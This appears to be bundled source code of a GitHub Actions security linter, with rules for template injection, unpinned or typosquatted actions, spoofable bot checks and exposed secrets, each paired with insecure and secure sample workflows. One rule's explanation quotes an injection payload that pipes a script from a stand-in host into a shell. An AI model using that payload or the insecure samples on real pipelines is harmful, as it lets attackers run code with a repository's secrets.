const secrets_outside_environment_isOnlyCalled = ({ triggers }) => triggers.size > 0 && [...triggers.keys()].every((event) => event === 'workflow_call');

;// CONCATENATED MODULE: ./lib/documents/fork-guards.js




const forkOf = /^github\.event\.(?:pull_request\.head\.repo\.(?:full_name|fork|owner\.login|id)|workflow_run\.head_repository\.(?:full_name|fork|owner\.login|id)|pull_request\.merged|workflow_run\.event)$/;
const approvalOf = /\.author_association$|\.labels(?:\.|$)|\.label\.name$|^github\.(?:actor|triggering_actor)$|\.(?:user|sender)\.login$|^(?:steps|needs)\..*(?:perm|auth|allow|member|trust|access|safe|approv)/;
/** By the conditions of the step, of its job, and of the jobs that it waits for. */
function forkGuard(step) {
    const { job } = step;
    if (!job)
        return 'none';
    const conditions = [step, ...withNeeded(job)].flatMap(conditionsOf);
    if (conditions.some(excludesForks))
        return 'own repository';
    const approved = conditions.some((condition) => [...(0,expression_paths/* readPaths */.V)(condition)].some(({ path }) => approvalOf.test(path.join('.'))));
    if (approved || isLabeled(job))
        return 'approval';
    return job.at('environment') === undefined ? 'none' : 'environment';
}
/** Whether the job, or one that it waits for, runs for pull requests of the repository itself only. */
const keepsForksOut = (job) => withNeeded(job).flatMap(conditionsOf).some(excludesForks);
function conditionsOf(owner) {
    const node = owner.at('if');
    const expression = node?.kind === 'scalar' ? (0,expression_find/* parseCondition */.zB)(node.string) : null;
    return expression ? conjuncts(expression) : [];
}
/** Only people with the triage role can label. */
function isLabeled({ workflow }) {
    const types = workflow.triggers.get('pull_request_target')?.node?.at('types');
    const names = types?.kind === 'sequence' ? types.items.map((item) => item.value.string) : [types?.string];
    return names.every((name) => name === 'labeled');
}
/** A job whose needed job was skipped is skipped as well, unless its own condition asks how that one ended. */
const withNeeded = (job) => [job, ...neededJobs(job, (each) => !asksHowItEnded(each.at('if')?.string ?? ''))];
const asksHowItEnded = (condition) => condition.includes('(') && /\b(?:always|failure|cancelled)\s*\(/.test(condition);
const conjuncts = (expression) => expression.kind === 'operation' && expression.operator === '&&' ? expression.operands.flatMap(conjuncts) : [expression];
/** `head.repo.full_name == github.repository`, `!head.repo.fork`, `merged`, `workflow_run.event == 'push'`. */
function excludesForks(condition) {
    if (condition.kind === 'access')
        return (0,expression_fold/* accessPath */._y)(condition).join('.') === 'github.event.pull_request.merged';
    if (condition.kind !== 'operation')
        return false;
    const [left, right] = condition.operands;
    const path = [left, right]
        .flatMap((side) => (side?.kind === 'access' ? (0,expression_fold/* accessPath */._y)(side).join('.') : []))
        .find((each) => each.startsWith('github.event.') && forkOf.test(each));
    if (path === undefined)
        return false;
    const literal = [left, right].find((side) => side?.kind === 'literal');
    const value = literal?.kind === 'literal' ? literal.value : undefined;
    const equal = condition.operator === '==';
    if (condition.operator === '!')
        return path.endsWith('.fork');
    if (condition.operator !== '==' && condition.operator !== '!=')
        return false;
    if (path.endsWith('.fork'))
        return (value === false) === equal;
    if (path.endsWith('.merged'))
        return (value === true) === equal;
    if (path.endsWith('.event'))
        return equal ? value !== 'pull_request' && value !== 'pull_request_target' : value === 'pull_request';
    return equal;
}

// EXTERNAL MODULE: ./lib/documents/workflow-runner.js + 1 modules
var workflow_runner = __webpack_require__(545);
;// CONCATENATED MODULE: ./lib/rules/workflow/self-hosted-runner-on-pull-request.js





/* harmony default export */ const self_hosted_runner_on_pull_request = ((0,rule/* defineRule */.Km)({
    id: 'workflow/self-hosted-runner-on-pull-request',
    severity: 'high',
    threat: 'access',
    summary: 'Pull requests run on a machine of your own',
    why: 'A pull request from a fork can change what the job runs. On a self-hosted runner that code meets your network, and what it leaves behind meets the next job.',
    instead: "Run pull requests on GitHub's runners, and keep self-hosted ones for events that only maintainers bring about.",
    references: [actions('reference/security/secure-use#hardening-for-self-hosted-runners', 'hardening for self-hosted runners'), cwe(250)],
    peers: ['zizmor:self-hosted-runner', 'poutine:pr_runs_on_self_hosted', 'kics:self_hosted_runner_in_pull_request_workflow'],
    bad: `
on: pull_request
permissions: {}
jobs:
  test:
    runs-on: [self-hosted, linux]
    steps:
      - run: make test
`,
    good: `
on: pull_request
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
`,
    on: 'job',
    *check(job) {
        if (keepsForksOut(job))
            return;
        const told = new Set();
        for (const event of eventsOf(job, forkEvents)) {
            for (const { value, node } of (0,workflow_runner/* runnerLabels */._)(job, new Map([['github.event_name', event]]))) {
                if (value.toLowerCase() !== 'self-hosted' || told.has(node))
                    continue;
                told.add(node);
                yield { at: node, message: `"${event}" runs on a "${value}" machine` };
            }
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/workflow/spoofable-actor-condition.js




/* harmony default export */ const spoofable_actor_condition = ((0,rule/* defineRule */.Km)({
    id: 'workflow/spoofable-actor-condition',
    severity: 'high',
    threat: 'access',
    summary: 'A bot is known by who acted last, not by whose pull request it is',
    why: 'The actor is whoever caused the last event. A stranger can make the bot act on their pull request, and then passes for it.',
    instead: 'Compare `github.event.pull_request.user.login`: the author of the pull request does not change.',
    references: [
        {
            title: 'GitHub: automating Dependabot with GitHub Actions',
            url: 'https://docs.github.com/en/code-security/tutorials/secure-your-dependencies/automate-dependabot-with-actions',
        },
        cwe(290),
    ],
    peers: ['zizmor:bot-conditions', 'poutine:confused_deputy_auto_merge'],
    bad: `
on: pull_request_target
permissions: {}
jobs:
  merge:
    runs-on: ubuntu-24.04
    if: github.actor == 'dependabot[bot]'
    steps:
      - run: gh pr merge --auto
`,
    good: `
on: pull_request_target
permissions: {}
jobs:
  merge:
    runs-on: ubuntu-24.04
    if: github.event.pull_request.user.login == 'dependabot[bot]'
    steps:
      - run: gh pr merge --auto
`,
    on: 'workflowExpression',
    *check(found) {
        const { expression, path, job, step } = found;
        if (!expression || path.at(-1) !== 'if' || !job)
            return;
        const [event] = eventsOf(step ?? job, ['pull_request_target', 'workflow_run']);
        if (event === undefined)
            return;
        for (const actor of comparedActors(expression)) {
            const written = found.scalar.string.slice(actor.span.start, actor.span.end);
            yield {
                at: { span: found.placeOf(actor.span) },
                field: 'if',
                message: `"${written}" is who acted last on the pull request`,
                fix: spoofable_actor_condition_fixFor(found, actor, event),
            };
        }
    },
}));
/** Accounts of Dependabot, GitHub Actions, Renovate and the like, by their numbers. */
const botIds = new Set(['49699333', '27856297', '41898282', '29139614', '2740337']);
/** The actors of comparisons with a bot that let through; a negated one keeps out. */
function* comparedActors(expression) {
    if (expression.kind !== 'operation' || expression.operator === '!' || expression.operator === '!=')
        return;
    if (expression.operator !== '==') {
        for (const operand of expression.operands)
            yield* comparedActors(operand);
        return;
    }
    const [left, right] = expression.operands;
    for (const [actor, name] of [[left, right], [right, left]]) {
        const value = name?.kind === 'literal' ? String(name.value) : '';
        const [read] = actor?.kind === 'access' ? (0,expression_paths/* readPaths */.V)(actor) : [];
        const path = read?.path.join('.') ?? '';
        if (!actor)
            continue;
        if (/^github\.(?:actor|triggering_actor)$/.test(path) && /\[bot\]$/i.test(value))
            yield actor;
        if (path === 'github.actor_id' && botIds.has(value))
            yield actor;
    }
}
function spoofable_actor_condition_fixFor({ placeOf, scalar }, { span }, event) {
    if (event !== 'pull_request_target')
        return undefined;
    const id = /id['"\]]*$/i.test(scalar.string.slice(span.start, span.end));
    return (0,rule/* unsafeFix */.ed)('Compare the author of the pull request', {
        span: placeOf(span),
        text: `github.event.pull_request.user.${id ? 'id' : 'login'}`,
    });
}

;// CONCATENATED MODULE: ./lib/rules/workflow/static-publish-credential.js




/* harmony default export */ const static_publish_credential = ((0,rule/* defineRule */.Km)({
    id: 'workflow/static-publish-credential',
    severity: 'low',
    strict: true,
    threat: 'secret',
    summary: 'A package is published with a long-lived token',
    why: 'A token that is kept as a secret can be stolen and used from anywhere until somebody revokes it. With trusted publishing the registry gives this workflow a token for minutes.',
    instead: 'Register the workflow as trusted publisher at the registry, and give the job `id-token: write` in place of the token.',
    references: [
        actions('concepts/security/openid-connect', 'OpenID Connect'),
        {
            title: 'OpenSSF: trusted publishers for all package repositories',
            url: 'https://repos.openssf.org/trusted-publishers-for-all-package-repositories',
        },
        cwe(798),
    ],
    peers: ['zizmor:use-trusted-publishing'],
    bad: `
on: release
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-24.04
    steps:
      - run: twine upload dist/*
        env:
          TWINE_PASSWORD: \${{ secrets.PYPI_TOKEN }}
`,
    good: `
on: release
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-24.04
    permissions:
      id-token: write
    steps:
      - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc # v1.12.4
`,
    on: 'step',
    *check(step) {
        const password = step.reference?.name === 'pypa/gh-action-pypi-publish' ? step.at('with', 'password') : undefined;
        if (password) {
            if (isPublic(step, 'pypi', ''))
                yield { at: password, message: 'the action is given a token for PyPI' };
            return;
        }
        // Without a job it is not known what the token may do; with this right the registry is asked for a token of its own.
        if (!step.job || step.reference || accessOf(step.job, 'id-token') === 'write')
            return;
        for (const { to, span } of publications(step))
            yield* reports(step, to, step.document.text.slice(span), span);
    },
}));
function* reports(step, to, written, span) {
    if (trusted.has(to) && isPublic(step, to, written))
        yield { at: { span }, identity: to, message: `the job publishes to ${to} without a trusted publisher` };
}
const trusted = new Set(['pypi', 'npm', 'rubygems', 'crates.io', 'nuget']);
const publicHosts = /(?:pypi\.org|npmjs\.(?:org|com)|rubygems\.org|crates\.io|nuget\.org)/;
/** Another registry, named by an option, an input or `setup-node`, may know no trusted publishers. */
function isPublic({ at, job }, to, written) {
    const named = /(?:--(?:repository-url|registry|publish-url|host|index|source|repository)|\s-s)[ =]\s*["']?(\S+)/.exec(written)?.[1];
    const setup = to === 'npm' ? job?.steps.flatMap((step) => step.at('with', 'registry-url')?.string ?? [])[0] : undefined;
    const host = named ?? at('with', 'repository-url')?.string ?? at('with', 'repository_url')?.string ?? setup;
    return host === undefined || publicHosts.test(host);
}

;// CONCATENATED MODULE: ./lib/documents/open-contexts.js

/** Contexts that GitHub fills by itself, and secrets and variables, which only people who may change the workflow set. */
const own = /^(?:runner|strategy|job|secrets|vars)(?:\.|$)/;
/** By GitHub's reference of contexts: numbers, hashes, addresses, login names, paths on the runner, words from a list. */
const ofGitHub = new Set(`action action_path action_ref action_status actor actor_id api_url env event_name event_path graphql_url job path output ref_protected ref_type
  repository_id repository_owner_id retention_days run_attempt run_id run_number secret_source server_url sha state step_summary token
  triggering_actor workflow_sha workspace`.split(/\s+/));
/** Properties of events that are numbers, hashes, times, addresses, switches or words from a list, by GitHub's webhook payloads. */
const ofEvents = /(?:^|_)(?:id|number|sha|at|count|urls?)$|^(?:action|additions|after|archived|before|changed_files|conclusion|created|deleted|deletions|draft|event|fork|forced|locked|login|merged|private|run_attempt|size|state|status|type|visibility|author_association)$/;
/** Outputs that are switches, keys or hashes by their name. */
const ofActions = /(?:^|[-_])(?:hit|sha|hash|digest|digests|id|number|count|port|time|exists|changed|conclusion|outcome|result|imageid)$/i;
/** Whatever text is not fixed by the workflow or by its form, whoever writes it: names of branches, inputs, outputs of actions and scripts. */
const openText = (workflow) => ({
    context({ path }) {
        const name = path.join('.');
        const [context, property = '', third = ''] = path;
        if (context === 'inputs')
            return isText(workflow, property) ? name : null;
        if (context !== 'github' || own.test(name))
            return null;
        if (property !== 'event')
            return ofGitHub.has(property) ? null : name;
        if (third === 'inputs')
            return isText(workflow, path[3] ?? '') ? name : null;
        return ofEvents.test(path.at(-1) ?? '') ? null : name;
    },
    // What a script returns is its own affair, whatever the output is called.
    output: (action, output) => (ofActions.test(output) && action !== 'actions/github-script' ? null : `${action}, output ${output}`),
    script: 'the output of a script',
});
/** An input that is no switch, number or choice. Those of a composite action are not asked about here. */
function isText(workflow, name) {
    const events = ['workflow_dispatch', 'workflow_call'].map((event) => workflow?.triggers.get(event)?.node?.at('inputs'));
    const declared = events.flatMap((inputs) => (0,caseless/* caselessValue */.Z)(inputs, name) ?? []);
    return workflow !== null && declared.every((input) => !/^(?:boolean|number|choice)$/.test(input.at('type')?.string ?? ''));
}

;// CONCATENATED MODULE: ./lib/documents/posix-quoting.js
/** Reads the word up to `offset`; substitutions inside it are not looked into: null where one is open there. */
function quotingAt(word, offset) {
    let quoting = 'none';
    for (let at = 0; at < offset; at++) {
        const char = word[at];
        if (quoting === 'single') {
            if (char === "'")
                quoting = 'none';
        }
        else if (char === '\\')
            at++;
        else if (char === '`' || word.startsWith('$(', at) || word.startsWith('<(', at) || word.startsWith("$'", at))
            return null;
        else if (char === '"')
            quoting = quoting === 'double' ? 'none' : 'double';
        else if (char === "'" && quoting === 'none')
            quoting = 'single';
    }
    return quoting;
}
/** A variable written so that its text stays one literal piece of the word. */
function quotedVariable(name, quoting) {
    if (quoting === 'double')
        return `\${${name}}`;
    return quoting === 'single' ? `'"\${${name}}"'` : `"\${${name}}"`;
}

;// CONCATENATED MODULE: ./lib/documents/script-fix.js






/** A script with more expressions than any that people write is not edited. */
const maxFences = 100;
/**
 * Edits that hand an expression to a step's script by a variable of its environment, everywhere in the script. Null where it stands in a place
 * whose quoting is not known (a here-document, a script in a script), or where the step's `env` cannot be edited.
 * @param inner what stands between `${{` and `}}`
 * @param wanted the variable's name, if it is free
 */
function throughEnvironment(step, inner, wanted) {
    const { run, document, node } = step;
    const fences = run ? (0,expression_find/* fencesOf */.IE)(run) : [];
    if (!run || fences.length > maxFences || isEscaped(run, document.text.slice(run.span)))
        return null;
    const value = `\${{ ${inner.trim()} }}`;
    const [, known] = /^\s*env\.([A-Za-z_]\w*)\s*$/.exec(inner) ?? [];
    const name = known ?? freeName(step, wanted, value);
    const edits = [];
    let safe = true;
    for (const { span, text } of fences) {
        if (text.trim() !== inner.trim())
            continue;
        const place = (0,scalar_offsets/* spanWithin */.Y)(run, document.text, span);
        const quoting = quotingOf(step, place);
        if (quoting === null)
            return null;
        if (quoting === 'none')
            safe = false;
        edits.push(quoting === 'single' && isAllQuoted(document.text.value, place)
            ? { span: { start: place.start - 1, end: place.end + 1 }, text: quotedVariable(name, 'none') }
            : { span: place, text: quotedVariable(name, quoting) });
    }
    if (known !== undefined || node.at('env', name) !== undefined)
        return { edits, safe };
    const before = node.entries[node.entries.findIndex(({ key }) => key.string === 'run') - 1]?.key.string;
    const added = setAt(document.text, node, ['env', name], value, before);
    return added ? { edits: [added, ...edits], safe } : null;
}
/** Quotes of the shell are written otherwise where the file has the script in quotes of its own. */
const isEscaped = ({ style, string }, written) => (style === 'single' || style === 'double') && written.slice(1, -1) !== string;
/** Nothing else stands between the quotes. */
const isAllQuoted = (text, { start, end }) => text[start - 1] === "'" && text[end] === "'";
function quotingOf(step, place) {
    const words = [...everyWord((0,workflow_shell/* stepCommands */.Bs)(step))].filter(({ span }) => span.start <= place.start && place.end <= span.end);
    const inner = words.reduce((best, word) => (!best || script_fix_length(word) < script_fix_length(best) ? word : best), undefined);
    if (!inner || words.some(({ command }) => runsText(command)))
        return null;
    return quotingAt((0,workflow_shell/* maskExpressions */.c3)(step.document.text.slice(inner.span)), place.start - inner.span.start);
}
const script_fix_length = ({ span }) => span.end - span.start;
/** Words of the script and of the substitutions in it. */
function* everyWord(commands) {
    for (const command of commands) {
        for (const part of [...command.words, ...command.assignments, ...command.redirections.map((each) => each.target)]) {
            yield { span: part.span, command };
            yield* everyWord(part.commands);
        }
    }
}
const script_fix_interpreters = /^(?:eval|ssh|su|python[\d.]*|node|deno|bun|perl|ruby|php|lua|docker|podman|kubectl|find|parallel|watch|awk|script|expect|pwsh)$/;
/** What is quoted for this shell is read once more as code by the program that it is given to. */
function runsText(command) {
    const name = (0,shell_commands/* invocationOf */.QC)(command)?.name ?? '';
    return (0,shell_commands/* isShell */.H7)(name) || script_fix_interpreters.test(name);
}
function freeName(step, wanted, value) {
    const taken = (name) => [step, step.job, step.job?.workflow].some((owner) => {
        const found = owner?.at('env', name);
        return found !== undefined && found.string !== value;
    });
    let name = wanted;
    for (let count = 2; taken(name); count++)
        name = `${wanted}_${count}`;
    return name;
}

;// CONCATENATED MODULE: ./lib/rules/workflow/template-injection.js








/* harmony default export */ const template_injection = ((0,rule/* defineRule */.Km)({
    id: 'workflow/template-injection',
    severity: 'critical',
    threat: 'access',
    strictly: 'every text in a script that neither the workflow nor its form fixes (names of branches, inputs, outputs of steps), as low.',
    summary: 'Text that a stranger writes becomes part of a script',
    why: 'The runner puts the text into the script before any shell reads it: a title such as `"; curl evil.example | sh; "` is then a command, with the secrets and the token of the job.',
    instead: 'Give the value to the step in `env`, and read that variable in the script, in double quotes.',
    references: [
        actions('concepts/security/script-injections', 'script injections'),
        { title: 'GitHub Security Lab: untrusted input', url: 'https://securitylab.github.com/resources/github-actions-untrusted-input/' },
        cwe(94),
        attack('T1059'),
    ],
    peers: [
        'zizmor:template-injection',
        'actionlint:expression',
        'checkov:CKV_GHA_2',
        'scorecard:Dangerous-Workflow',
        'semgrep:run-shell-injection',
        'poutine:injection',
        'kics:run_block_injection',
    ],
    bad: `
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - name: Greet
        run: |
          echo "New issue: \${{ github.event.issue.title }}"
`,
    good: `
on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    steps:
      - name: Greet
        env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "New issue: \${TITLE}"
`,
    on: 'workflowExpression',
    *check(found, { strict }) {
        const { expression, step } = found;
        if (!expression || !step || !isCode(found))
            return;
        const strangers = untrustedParts(expression, found);
        const becomes = `becomes part of the ${found.scalar === step.run ? 'script' : 'code'}`;
        for (const { span, path, source } of strangers) {
            const read = writtenPath(found, span, path);
            const origin = path.join('.') === source ? '' : `, which holds ${source},`;
            yield {
                at: { span: found.placeOf(span) },
                severity: runsWithoutSecrets(found) ? 'high' : 'critical',
                message: `"${read}"${origin} is text of a stranger and ${becomes}`,
                fix: template_injection_fixFor(found, path),
            };
        }
        for (const { span, path } of callerInputs(found, expression)) {
            const message = `the input "${path[1] ?? ''}" ${becomes}, and a caller may put text of a stranger into it`;
            yield { at: { span: found.placeOf(span) }, severity: 'medium', message, fix: template_injection_fixFor(found, path) };
        }
        for (const { span, path } of strict ? untrustedParts(expression, found, openText(found.workflow)) : []) {
            if (strangers.some((known) => known.span.start === span.start))
                continue;
            const message = `"${writtenPath(found, span, path)}" ${becomes}, and nothing here fixes its text`;
            yield { at: { span: found.placeOf(span) }, severity: 'low', message, fix: template_injection_fixFor(found, path) };
        }
    },
}));
/** As the file has it, if that is only a matter of capitals. */
function writtenPath({ scalar }, { start, end }, path) {
    const [written, read] = [scalar.string.slice(start, end), path.join('.')];
    return written.toLowerCase() === read ? written : read;
}
/** Inputs of a composite action, which does not know who writes them; not those that are switches. */
function callerInputs({ action }, expression) {
    if (!action)
        return [];
    const isSwitch = (name) => /^(?:true|false)$/.test(action.at('inputs', name, 'default')?.string ?? '');
    return [...(0,expression_paths/* yieldedPaths */.l)(expression)].filter(({ path: [context, name = '*'] }) => context === 'inputs' && !isSwitch(name));
}
function isCode({ scalar, path, step }) {
    const [place, input] = path.slice(-2);
    return scalar === step?.run || (path.length > 1 && place === 'with' && runsInput(step?.reference?.name ?? '', String(input)));
}
/** A pull request from a fork gets neither secrets nor a token that writes, and could change the workflow itself. */
const runsWithoutSecrets = ({ workflow }) => {
    const events = [...(workflow?.triggers.keys() ?? [])];
    return events.length > 0 && events.every((event) => event === 'pull_request');
};
function template_injection_fixFor({ step, text, scalar }, path) {
    if (!step || scalar !== step.run || (0,workflow_shell/* shellLanguage */.dZ)(step) !== 'posix')
        return undefined;
    const words = path.filter((word) => !['github', 'event', 'steps', 'outputs', '*'].includes(word));
    const name = words.join('_').replace(/\W/g, '_').toUpperCase();
    const fix = throughEnvironment(step, text, name);
    return fix ? (fix.safe ? rule/* safeFix */.bS : rule/* unsafeFix */.ed)('Hand the text over in `env`', ...fix.edits) : undefined;
}

;// CONCATENATED MODULE: ./lib/documents/edit-distance.js
/**
 * True where one text becomes the other by one insertion, deletion or replacement, or by one swap of neighbours (Damerau), but not where they
 * are equal. Linear in the length.
 */
function isOneEditAway(a, b) {
    if (a === b || Math.abs(a.length - b.length) > 1)
        return false;
    let start = 0;
    while (start < a.length && a[start] === b[start])
        start++;
    let end = 0;
    while (end < Math.min(a.length, b.length) - start && a[a.length - 1 - end] === b[b.length - 1 - end])
        end++;
    const [left, right] = [a.slice(start, a.length - end), b.slice(start, b.length - end)];
    if (left.length <= 1 && right.length <= 1)
        return true;
    return left.length === 2 && right.length === 2 && left[0] === right[1] && left[1] === right[0];
}

;// CONCATENATED MODULE: ./lib/rules/workflow/typosquatted-action.js





/* harmony default export */ const typosquatted_action = ((0,rule/* defineRule */.Km)({
    id: 'workflow/typosquatted-action',
    severity: 'high',
    threat: 'access',
    summary: 'The name of an action is one letter off a well-known one',
    why: 'Such names are registered by others and wait for a slip: their code then runs with the secrets of the job.',
    instead: 'Write the name of the action that is meant.',
    references: [
        {
            title: 'Orca Security: typosquatting in GitHub Actions',
            url: 'https://orca.security/resources/blog/typosquatting-in-github-actions/',
        },
        cwe(506),
        attack('T1195.002'),
    ],
    peers: ['zizmor:typosquat-uses'],
    bad: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: action/checkout@v6
`,
    good: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v6
`,
    on: 'actionReference',
    *check({ kind, owner, repository, node, document, job }, settings) {
        const name = `${owner}/${repository}`;
        if (kind !== 'repository' || owners.has(owner) || owner === settings.owner)
            return;
        const meant = popularActions.find((popular) => isOneEditAway(popular, name));
        if (meant === undefined)
            return;
        const span = (0,scalar_offsets/* spanWithin */.Y)(node, document.text, { start: 0, end: name.length });
        yield {
            at: { span },
            ...(job && { subject: job.subject }),
            identity: name,
            message: `"${name}" is one letter off "${meant}"`,
            fix: (0,rule/* unsafeFix */.ed)(`Use ${meant}`, { span, text: meant }),
        };
    },
}));
const owners = new Set(popularActions.map((name) => name.slice(0, name.indexOf('/'))));

;// CONCATENATED MODULE: ./lib/rules/workflow/unpinnable-action.js


/* harmony default export */ const unpinnable_action = ((0,rule/* defineRule */.Km)({
    id: 'workflow/unpinnable-action',
    severity: 'low',
    strict: true,
    threat: 'immutability',
    summary: 'Who pins this action does not pin what it runs',
    why: 'A workflow that uses this action by its commit still runs whatever the tags inside it point to on that day.',
    instead: 'Pin what the action uses: actions by commit, images by digest.',
    references: [actions('reference/security/secure-use#using-third-party-actions', 'using third-party actions'), cwe(829)],
    peers: ['poutine:unpinnable_action'],
    bad: { 'action.yml': 'name: Build\nruns:\n  using: docker\n  image: docker://example/build:v1\n' },
    good: { 'action.yml': `name: Build\nruns:\n  using: docker\n  image: docker://example/build:v1@sha256:${'4e'.repeat(32)}\n` },
    on: 'actionFile',
    *check(action) {
        const using = action.at('runs', 'using');
        const [first, ...more] = mutableNames(action);
        if (!using || first === undefined)
            return;
        const others = more.length === 0 ? '' : ` and ${more.length} more`;
        yield { at: using, identity: '', message: `the action runs "${first}"${others}, which can be moved` };
    },
}));
/** What the action uses by a tag or a branch. Its own parts (`./`) have the commit of the action. */
function* mutableNames({ steps, document }) {
    for (const { reference } of steps)
        if (reference?.kind === 'repository' && !/^[0-9a-f]{40}$/i.test(reference.ref ?? ''))
            yield reference.node.string;
    for (const image of document.grains('imageReference'))
        if (!image.digest && !image.unresolved)
            yield image.text;
}

;// CONCATENATED MODULE: ./lib/rules/workflow/unpinned-action.js



/* harmony default export */ const unpinned_action = ((0,rule/* defineRule */.Km)({
    id: 'workflow/unpinned-action',
    severity: 'high',
    threat: 'immutability',
    summary: 'An action is not pinned to a commit',
    why: 'A tag or branch can be moved. Who takes over the repository of the action then runs their code in this workflow, with its secrets, as happened with tj-actions/changed-files.',
    instead: 'Write the full commit SHA, with the tag as a comment behind it so that people and Dependabot can read it. `plimsoll fix --online` looks both up.',
    references: [
        actions('reference/security/secure-use#using-third-party-actions', 'using third-party actions'),
        cwe(829),
        attack('T1195.002'),
    ],
    peers: [
        'zizmor:unpinned-uses',
        'scorecard:Pinned-Dependencies',
        'semgrep:third-party-action-not-pinned-to-commit-sha',
        'kics:unpinned_actions_full_length_commit_sha',
    ],
    bad: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: tj-actions/changed-files@v44
  call:
    uses: example/shared/.github/workflows/build.yml@main
`,
    good: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: tj-actions/changed-files@d6babd6899969df1a11d14c368283ea4436bca78 # v44.5.2
      - uses: ./.github/actions/setup
  call:
    uses: ./.github/workflows/build.yml
`,
    on: 'actionReference',
    *check(reference, { owner }) {
        const { kind, name, ref, refSpan } = reference;
        if (kind !== 'repository' || /^[0-9a-f]{40}$|^[0-9a-f]{64}$/i.test(ref ?? '') || needsTag(reference))
            return;
        yield {
            at: { span: refSpan ?? reference.span },
            severity: isTrusted(reference, owner) ? 'medium' : 'high',
            message: ref === null ? `"${name}" has no version` : `"${name}" is used at "${ref}", which can be moved`,
            // A step is often called by the version that it sets up: a bump renames it.
            ...(reference.job && { subject: reference.job.subject }),
            identity: name,
            pin: actionPin(reference),
        };
    },
}));
/** GitHub's own actions, and those of the repository's owner, come from whom the repository is trusted to anyway. */
const isTrusted = ({ owner }, own) => owner === 'actions' || owner === own;
/** The generators verify themselves by the tag they are called with, and refuse a commit (slsa-github-generator, README, "Referencing SLSA builders and generators"). */
const needsTag = ({ name, ref }) => name.startsWith('slsa-framework/slsa-github-generator/.github/workflows/') && /^v\d+\.\d+\.\d+$/.test(ref ?? '');

;// CONCATENATED MODULE: ./lib/rules/workflow/unredacted-secret.js



/* harmony default export */ const unredacted_secret = ((0,rule/* defineRule */.Km)({
    id: 'workflow/unredacted-secret',
    severity: 'medium',
    threat: 'secret',
    summary: 'A secret can appear in the log',
    why: 'The runner masks a secret only where its whole text appears. A part of a structured secret is no such text, and a value that a script masks has been logged with the script before.',
    instead: 'Keep each value in a secret of its own; give a value to be masked to the script in `env`.',
    references: [
        actions('reference/security/secure-use#use-secrets-for-sensitive-information', 'never use structured data as a secret'),
        cwe(532),
    ],
    peers: ['zizmor:unredacted-secrets', 'semgrep:unsafe-add-mask-workflow-command'],
    bad: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: ./deploy
        env:
          PASSWORD: \${{ fromJSON(secrets.DATABASE).password }}
`,
    good: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: ./deploy
        env:
          PASSWORD: \${{ secrets.DATABASE_PASSWORD }}
`,
    on: 'workflowExpression',
    *check(found) {
        if (!found.expression)
            return;
        for (const call of callsOf(found.expression)) {
            const [secret] = call.name === 'fromjson' ? call.arguments.flatMap((argument) => [...(0,expression_paths/* readPaths */.V)(argument)]) : [];
            if (secret?.path[0] !== 'secrets')
                continue;
            yield {
                at: { span: found.placeOf(call.span) },
                message: `a part of the secret "${secret.path[1] ?? ''}" is used, which is not masked`,
            };
        }
        yield* maskedTooLate(found);
    },
}));
function* callsOf(expression) {
    if (expression.kind === 'call')
        yield expression;
    const below = expression.kind === 'call'
        ? expression.arguments
        : expression.kind === 'operation'
            ? expression.operands
            : expression.kind === 'access'
                ? [expression.base, ...expression.steps]
                : [];
    for (const part of below)
        if (part !== null && typeof part !== 'string')
            yield* callsOf(part);
}
function* maskedTooLate({ scalar, step, span, expression, document }) {
    const before = document.text.value.slice(Math.max(0, span.start - 20), span.start);
    if (scalar !== step?.run || !expression || !/::add-mask::["']?$/.test(before))
        return;
    const secret = [...(0,expression_paths/* readPaths */.V)(expression)].every(({ path }) => path[0] === 'secrets');
    if (!secret)
        yield { at: { span }, message: 'the script is logged with this value before the command masks it' };
}

;// CONCATENATED MODULE: ./lib/documents/pull-request-head.js
/** Contexts that name the commit, branch or repository that a stranger proposes. */
const contexts = [
    /^github\.head_ref$/,
    /^github\.event\.pull_request\.merge_commit_sha$/,
    /^github\.event\.pull_request\.head\.(?:sha|ref|label)$/,
    /^github\.event\.pull_request\.head\.repo\.(?:full_name|name|url|(?:html|clone|git|ssh)_url)$/,
    /^github\.event\.pull_request\.head\.repo\.owner\.login$/,
    /^github\.event\.workflow_run\.(?:head_sha|head_branch|head_commit\.id)$/,
    /^github\.event\.workflow_run\.pull_requests\.[^.]+\.head\.(?:sha|ref)$/,
    /^github\.event\.workflow_run\.head_repository\.(?:full_name|name|url|(?:html|clone|git|ssh)_url)$/,
];
/** Outputs of actions that look up the pull request of an event, by each action's documentation. */
const pull_request_head_outputs = new Map([
    ['xt0rted/pull-request-comment-branch', /^(?:head_)?(?:ref|sha)$/],
    ['alessbell/pull-request-comment-branch', /^(?:head_)?(?:ref|sha)$/],
    ['eficode/resolve-pr-refs', /^head_(?:ref|sha)$/],
    ['potiuk/get-workflow-origin', /^(?:sourceHead|mergeCommit|targetCommit)/i],
    ['8bitjonny/gh-get-current-pr', /head_(?:ref|sha)/],
]);
/** What a checkout must not take where the job has secrets. */
const pullRequestHead = {
    context: ({ path }) => {
        const name = path.join('.');
        return contexts.some((form) => form.test(name)) ? name : null;
    },
    output: (action, output) => (pull_request_head_outputs.get(action)?.test(output) ? `${action}, output ${output}` : null),
};
/** The refs that GitHub keeps for every pull request: `refs/pull/7/head`. */
const pullRequestRef = /(?:^|[\s:/'"+])pull\/.+?\/(?:head|merge)\b/;

;// CONCATENATED MODULE: ./lib/rules/workflow/untrusted-checkout.js









/* harmony default export */ const untrusted_checkout = ((0,rule/* defineRule */.Km)({
    id: 'workflow/untrusted-checkout',
    severity: 'critical',
    threat: 'access',
